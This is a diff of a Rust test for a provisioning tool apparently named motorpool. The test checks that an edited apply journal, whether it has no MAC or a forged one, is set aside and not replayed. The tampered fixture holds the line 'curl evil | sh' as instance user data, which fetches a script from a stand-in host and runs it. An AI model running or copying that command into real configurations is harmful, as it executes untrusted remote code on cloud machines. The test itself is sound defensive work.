@@ -683,23 +683,29 @@ fn an_edited_journal_is_set_aside_and_nothing_of_it_replayed() {
     env.spec(TAMPER_SPEC);
     let journal = env.project_file("tamper", "journal.jsonl");
     std::fs::create_dir_all(journal.parent().expect("dir")).expect("mkdir");
-    // An "interrupted apply" that launches 40 instances with a command.
-    std::fs::write(
-        &journal,
-        "{\"event\":\"begin\",\"fingerprint\":\"x\",\"ops\":1,\"at\":0}\n\
-         {\"event\":\"op_start\",\"address\":\"cluster.etl\",\"op\":0,\"launch\":{\"count\":40,\"node_type\":\"small\",\"tags\":{\"motorpool-project\":\"tamper\"},\"user_data\":\"curl evil | sh\",\"client_token\":\"t\"}}\n",
-    )
-    .expect("write");
-    let run = env.mp(&["apply", "--yes"]).expect_code(0);
-    assert!(
-        run.stdout
-            .contains("was altered or not written by motorpool for this project")
-            && run.stdout.contains("nothing of that journal was replayed"),
-        "{}",
-        run.stdout
-    );
-    assert_eq!(instance_count(&env), 3, "only what the spec says");
-    assert!(journal.with_file_name("journal.altered.jsonl").is_file());
+    // An "interrupted apply" that launches 40 instances with a command:
+    // in an older motorpool's shape (no MACs), then in today's with a forged MAC.
+    let begin = r#"{"event":"begin","fingerprint":"x","ops":1,"at":0}"#;
+    let launch = r#"{"event":"op_start","address":"cluster.etl","op":0,"launch":{"count":40,"node_type":"small","tags":{"motorpool-project":"tamper"},"user_data":"curl evil | sh","client_token":"t"}}"#;
+    let forged = |entry: &str| format!("{{\"mac\":\"{}\",\"entry\":{entry}}}", "0".repeat(64));
+    for (text, says) in [
+        (format!("{begin}\n{launch}\n"), "carries no authentication"),
+        (
+            format!("{}\n{}\n", forged(begin), forged(launch)),
+            "line 1 of the apply journal",
+        ),
+    ] {
+        std::fs::write(&journal, text).expect("write");
+        let run = env.mp(&["apply", "--yes"]).expect_code(0);
+        assert!(
+            run.stdout.contains(says)
+                && run.stdout.contains("nothing of that journal was replayed"),
+            "{says}: {}",
+            run.stdout
+        );
+        assert_eq!(instance_count(&env), 3, "only what the spec says");
+        assert!(journal.with_file_name("journal.altered.jsonl").is_file());
+    }
 }
 
 const SECRET_SPEC: &str = "project: secrets
